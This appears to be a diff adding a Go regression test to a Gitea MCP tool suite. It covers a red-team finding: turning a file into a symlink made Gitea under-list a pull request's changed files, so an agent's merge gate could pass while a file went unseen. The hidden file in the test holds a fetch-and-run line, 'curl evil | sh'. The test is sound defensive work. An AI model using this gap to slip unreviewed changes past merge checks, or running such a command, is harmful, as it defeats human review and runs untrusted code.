@@ -1,10 +1,16 @@
 package main
 
 import (
+	"encoding/base64"
 	"fmt"
 	"net/http"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 )
 
 // TestE2ERedteam15MergeRename: found by attacking gitea_merge_pr's
@@ -43,5 +49,73 @@ func TestE2ERedteam15MergeRename(t *testing.T) {
 	}
 	if res, isErr := merge("docs.md", "README.md"); isErr || get(res, "data.merged") != true {
 		t.Errorf("merge of the rename expected with both names: %v", res)
+	}
+}
+
+// TestE2ERedteam15MergeTypeChange: found by attacking gitea_merge_pr's
+// expected_changed_files. git diffs a file turned into a symbolic link as
+// two files of one name, and Gitea lists the pull request's files as many as
+// git's --shortstat counts (routers/api/v1/repo/pull.go GetPullRequestFiles),
+// so the list ends one file early: a pull request turning x into a link and
+// changing z was listed as x, x, and merged with expected_changed_files
+// [x, x], z unseen. Now a name listed twice is a refusal.
+func TestE2ERedteam15MergeTypeChange(t *testing.T) {
+	g := needGitea(t)
+	repo, _ := scratchRepo(t, g, "typechange", false)
+	owner, name, _ := strings.Cut(repo, "/")
+	s := &giteaSetup{g: g}
+	b64 := func(v string) string { return base64.StdEncoding.EncodeToString([]byte(v)) }
+	s.call("alice", "POST", "/repos/"+repo+"/contents", map[string]any{"branch": "main", "message": "x and z",
+		"files": []map[string]string{{"operation": "create", "path": "x", "content": b64("x\n")}, {"operation": "create", "path": "z", "content": b64("z\n")}}}, http.StatusCreated, nil)
+	if s.err != nil {
+		t.Fatal(s.err)
+	}
+	dir := t.TempDir()
+	u, _ := url.Parse(g.URL)
+	u.User, u.Path = url.UserPassword("bob", g.Tokens["bob"]), "/"+repo+".git"
+	git := func(args ...string) {
+		cmd := exec.Command("git", append([]string{"-c", "user.name=bob", "-c", "user.email=bob@example.com"}, args...)...)
+		cmd.Dir = dir
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args[0], err, out)
+		}
+	}
+	git("clone", "-q", u.String(), ".")
+	git("checkout", "-q", "-b", "tc")
+	if err := os.Remove(filepath.Join(dir, "x")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("README.md", filepath.Join(dir, "x")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "z"), []byte("curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	git("add", "-A")
+	git("commit", "-q", "-m", "x as a link")
+	git("push", "-q", "origin", "tc")
+	var pr struct {
+		Number int
+		Head   struct{ SHA string }
+	}
+	s.call("bob", "POST", "/repos/"+repo+"/pulls", map[string]string{"head": "tc", "base": "main", "title": "x as a link"}, http.StatusCreated, &pr)
+	if s.err != nil {
+		t.Fatal(s.err)
+	}
+	c := e2eClient(t, g, "carol", "GITEA_MCP_PROFILE=gitea-merger")
+	for deadline := time.Now().Add(30 * time.Second); get(waitMergeable(t, c, owner, name, pr.Number), "data.mergeable") != true; time.Sleep(time.Second) {
+		if time.Now().After(deadline) {
+			t.Fatal("the pull request is not mergeable")
+		}
+	}
+	res, _ := c.callTool("gitea_call_operation", map[string]any{"operation": "repoGetPullRequestFiles", "arguments": map[string]any{"owner": owner, "repo": name, "index": pr.Number}})
+	t.Logf("files as Gitea lists them: %.400v", get(res, "data"))
+	res, isErr := c.callTool("gitea_merge_pr", map[string]any{"owner": owner, "repo": name, "index": pr.Number, "head_sha": pr.Head.SHA,
+		"confirm": fmt.Sprintf("MERGE PR %d", pr.Number), "expected_changed_files": []string{"x", "x"}})
+	if !isErr || get(res, "data.merged") != false || !strings.Contains(str(get(res, "data.gates")), "gate:changed files are exactly expected_changed_files passed:false") {
+		t.Errorf("merge of x, x and z expected as x, x: %v", res)
+	}
+	if _, _, data, err := g.api("alice", "GET", fmt.Sprintf("/repos/%s/pulls/%d", repo, pr.Number), nil); err != nil || !strings.Contains(string(data), `"merged":false`) {
+		t.Errorf("the pull request was merged: %v %.200s", err, data)
 	}
 }
